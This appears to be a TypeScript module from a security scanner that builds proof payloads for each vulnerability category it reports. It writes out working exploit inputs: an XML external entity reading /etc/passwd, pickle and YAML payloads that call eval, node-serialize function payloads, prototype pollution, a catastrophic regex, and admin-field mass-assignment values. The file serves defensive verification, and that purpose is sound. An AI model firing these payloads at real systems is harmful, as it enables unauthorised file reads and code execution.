/*
 * What to send to see that a flaw is one, per category of rule, by the context in which the value lands. Payloads show, they do not harm:
 * they read, compute or fail, and never delete, overwrite or leave something.
 */
import type { ExpectedInput, Finding } from '#engine/findings/finding.ts';
import { FACTORS, PRODUCT, shows, TO_BE_SEEN, type NoPayload, type Payload, type PayloadContext, type PayloadMaker } from '#engine/report/proof/payload.ts';
import { MARKER, OUTCOME_PAYLOADS } from '#engine/report/proof/outcome-payloads.ts';
import { document } from '#engine/report/proof/document-text.ts';
import { headerPayload, logPayload, pathPayload, redirectPayload, requestPayload, scriptAddressPayload, scriptPayload } from '#engine/report/proof/place-payloads.ts';
import { codePayload, commandPayload, ldapPayload, nosqlPayload, sqlPayload, templatePayload, xpathPayload } from '#engine/report/proof/statement-payloads.ts';
import { sinkHop } from '#engine/report/report-finding.ts';

const RAN_AS_CODE = `The program computes ${PRODUCT}, in the answer, in its error or in its output: the data said which function to call.`;

/** What computes the product, and prints it at once: what is read back may go nowhere. */
const PRINTED = `print(${FACTORS},flush=True)or ${FACTORS}`;

/** A call that reads a text as base64, and none that writes one. */
const DECODES = /^[\w.$\s]*(?:b(?:ase)?64_?decode|decode_?base64|\batob)\(|^Buffer\.from\((?:[^()]|\([^()]*\))*,\s*['"]base64(?:url)?['"]|^[\w.]*Base64\b[^;]*?\b(?:decode\w*|parseBase64Binary)\(/i;

/** The text as it is written where the program decodes it first. */
function asDecoded({ hops }: Finding, text: string): string {
  return hops.some((hop) => hop.edge !== 'source' && hop.edge !== 'sink' && DECODES.test(hop.text)) ? btoa(String.fromCharCode(...new TextEncoder().encode(text))) : text;
}

/** Bytes as they are where a file or a body holds nothing else and is read as it is: no text was seen to be decoded on the way. */
function bytesFor({ hops, input }: Finding, payload: Payload): Payload {
  const isHolding = input?.kind === 'uploaded-file' || (input?.place === 'body' && input.name === undefined);
  const isDecoded = hops.some(({ edge, text }) => edge !== 'source' && /base_?64|decode/i.test(text));
  const { isBase64: _, ...asText } = payload;
  return isHolding && !isDecoded ? payload : asText;
}

/** The text as each of the parts that the program cuts what is sent into, as it is one of them. */
function inEachPart({ parts }: Finding, text: string): string {
  return parts === undefined || text.includes(parts.separator) ? text : Array.from({ length: parts.count }, () => text).join(parts.separator);
}

/** An object of a class that no program has, written whole, as readers look for the class behind its description: `controlled.Type`, without fields and parents. */
const OF_NO_CLASS = 'rO0ABXNyAA9jb250cm9sbGVkLlR5cGUAAAAAAAAAAAIAAHhw';

const deserializationPayload: PayloadMaker = ({ finding }) => {
  const { text: call, fact = '' } = sinkHop(finding);
  const isYaml = /ya?ml/i.test(call) || /ya?ml/i.test(fact.replace(/\.yml\b.*/, ''));
  if (finding.language === 'java') {
    return isYaml
      ? { text: '!!java.net.URL ["http://127.0.0.1:9/"]', contentType: 'application/yaml', effect: 'The value becomes a `java.net.URL` instead of a text: the sender decides which types are made.', expected: TO_BE_SEEN }
      : { text: OF_NO_CLASS, isBase64: true, contentType: 'application/octet-stream', effect: 'The error names the type of the sent object: the sender decides which types are made.', expected: TO_BE_SEEN };
  }
  if (finding.language === 'python') {
    const text = isYaml ? `!!python/object/apply:eval ["${PRINTED}"]` : `cbuiltins\neval\n(S'${PRINTED}'\ntR.`;
    return { text, contentType: isYaml ? 'application/yaml' : 'application/octet-stream', effect: RAN_AS_CODE, expected: shows(PRODUCT) };
  }
  const code = `function(){return ${FACTORS}}`;
  return isYaml
    ? { text: `toString: !!js/function "${code}"`, contentType: 'application/yaml', effect: `The value shows as ${PRODUCT} wherever it is used as a text: it holds a function that was sent.`, expected: shows(PRODUCT) }
    : { text: `{"probe":"_$$ND_FUNC$$_${code}()"}`, also: `{"probe":"_$$ND_FUNC$$_function(){throw Error(${FACTORS})}()"}`, effect: RAN_AS_CODE, expected: shows(PRODUCT) };
};

const entityPayload: PayloadMaker = ({ finding: { elements = [] } }) => ({
  text: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>${document(elements.map((path) => ({ path, text: '&e;' })), '&e;')}`, contentType: 'application/xml',
  effect: 'The content of `/etc/passwd` stands where the entity was: the parser read the file.', expected: shows('root:x:0:0'),
});

const pollutionPayload: PayloadMaker = () => ({
  text: '__proto__', json: JSON.parse('{"__proto__":{"polluted":"yes"}}') as Payload['json'] & object, // As written: a literal would set the prototype.
  effect: 'Afterwards `({}).polluted` is `yes` in the whole process, until it is started again.', expected: TO_BE_SEEN,
});

/** CWE-730: the sender gives the pattern, and not the text that it is held against. */
const GIVEN_PATTERN = 730;
/** Asks behind the end of each way of dividing the text for one more character: 26 took V8 two seconds, 22 Python 0.7. */
const SLOW_PATTERN = '(.+)+$.';

/** Long enough to be seen, short enough to end. */
const HELD_AGAINST = '987654321'.repeat(3).slice(0, 24);

const slowPayload: PayloadMaker = ({ finding, rule: { cwe } }) => {
  if (cwe.includes(GIVEN_PATTERN)) {
    return { text: SLOW_PATTERN, others: HELD_AGAINST, effect: 'Where the pattern is held against a text of some 30 characters, the answer takes seconds, twice as long with each further one.', expected: TO_BE_SEEN };
  }
  if (finding.attack === undefined) return { missing: 'A text that makes the pattern slow could not be computed here. Send a long text that nearly fits the pattern, and twice as long a one: the second answer takes more than twice as long.' };
  return { text: '', effect: 'The answers take longer from one to the next, far more than their texts grow.', expected: { kind: 'slower', factor: 4 } };
};

const CHOSEN = 'The stored record has what was sent in a field that the form does not offer.';
const SENT_AS: Readonly<Record<ExpectedInput['holds'], string | number | boolean>> = { text: 'admin', number: 1, truth: true };
/** A member that gives rights, by its name. */
const GIVES_RIGHTS = /role|admin|staff|super_?user|permission|privilege|owner|verified|approved/i;

/** One field too many: the one that the way speaks of, one of those that the handler declares, or one that the class is known to have. */
const memberPayload: PayloadMaker = ({ finding: { input, entryPoint, member } }) => {
  const fields = (entryPoint?.expects ?? []).filter(({ isWhole, of }) => isWhole !== true && of.place === 'body' && of.name !== undefined && of.keys === undefined);
  const own = fields.find(({ of }) => of.name === input?.name);
  const isWhole = input?.name === undefined || entryPoint?.expects?.some((each) => each.isWhole === true && each.of.name === input.name) === true;
  const declared = fields.find(({ of }) => GIVES_RIGHTS.test(of.name ?? ''));
  const chosen = declared ? { name: declared.of.name ?? '', holds: declared.holds } : member;
  if (!isWhole) {
    const sent = SENT_AS[own?.holds ?? 'text'];
    return { text: String(sent), ...(typeof sent !== 'string' && { json: sent }), effect: CHOSEN, expected: TO_BE_SEEN };
  }
  if (chosen !== undefined) return { text: String(SENT_AS[chosen.holds]), json: Object.fromEntries([[chosen.name, SENT_AS[chosen.holds]]]), effect: CHOSEN, expected: TO_BE_SEEN };
  return { text: 'true', json: { isAdmin: true }, effect: `${CHOSEN} Put one that its class has, such as a role or an owner, in the place of \`isAdmin\`: a store with a schema drops names that it does not know.`, expected: TO_BE_SEEN };
};

const PAYLOADS: Readonly<Record<string, PayloadMaker>> = {
  ...OUTCOME_PAYLOADS,
  'sql injection': sqlPayload,
  'nosql injection': nosqlPayload,
  'command injection': commandPayload,
  'code injection': codePayload,
  'template injection': templatePayload,
  'path traversal': pathPayload,
  'file inclusion': pathPayload,
  'cross-site scripting': scriptPayload,
  'script address': scriptAddressPayload,
  'server-side request forgery': requestPayload,
  'open redirect': redirectPayload,
  'prototype pollution': pollutionPayload,
  'insecure deserialization': deserializationPayload,
  'xml external entities': entityPayload,
  'ldap injection': ldapPayload,
  'xpath injection': xpathPayload,
  'header injection': headerPayload,
  'log injection': logPayload,
  'regular expression denial of service': slowPayload,
  'mass assignment': memberPayload,
  'trust boundary violation': () => ({ text: 'chosen-by-the-caller', effect: 'The value stands in the session, where other code takes it for checked.', expected: TO_BE_SEEN }),
};

/** The CWE of a rule about which class or function is used. */
const CHOICE_OF_CODE = 470;

/** Names that are there in every program, and that none offers. */
const NAMES_OF_CODE: Readonly<Record<string, string>> = { java: 'java.lang.Object', python: '__dir__', javascript: 'toString' };

const namePayload: PayloadMaker = ({ finding: { language } }) => ({
  text: NAMES_OF_CODE[language] ?? 'toString', effect: 'No answer says that the name is not known: what bears it was found and used, though the program never offered it.', expected: TO_BE_SEEN,
});

/** Categories that live on a line break. */
const LINE_BREAKERS: ReadonlySet<string> = new Set(['log injection', 'header injection']);

/** Whether the input arrives as it is sent: servers refuse line breaks in headers (RFC 9112, 5), and decode nothing there. */
function isRawHeader({ input, hops }: Finding): boolean {
  const isHeader = input?.place === 'header' || input?.place === 'cookie';
  return isHeader && !hops.some(({ text }) => /decode|unquote|unescape|parse|base64/i.test(text));
}

/** The payload for a finding's category; a marker that can be followed where the category has none. */
export function payloadFor(context: PayloadContext): Payload | NoPayload {
  const { category, cwe } = context.rule;
  if (cwe[0] === CHOICE_OF_CODE) return namePayload(context);
  if (LINE_BREAKERS.has(category) && isRawHeader(context.finding)) {
    return { missing: 'A header or cookie cannot hold a line break, and none was seen to be decoded on the way: there is nothing to send. Look whether something before the application lets one through.' };
  }
  const maker = Object.hasOwn(PAYLOADS, category) ? PAYLOADS[category] : undefined;
  const payload = maker?.(context) ?? MARKER;
  if ('missing' in payload || payload.json !== undefined) return payload;
  if (payload.isBase64) return bytesFor(context.finding, payload);
  const { also, otherwise, ...others } = payload;
  const decoded = (text: string): string => asDecoded(context.finding, inEachPart(context.finding, text));
  return { ...others, text: decoded(payload.text), ...(also !== undefined && { also: decoded(also) }), ...(otherwise !== undefined && { otherwise: otherwise.map(decoded) }) };
}
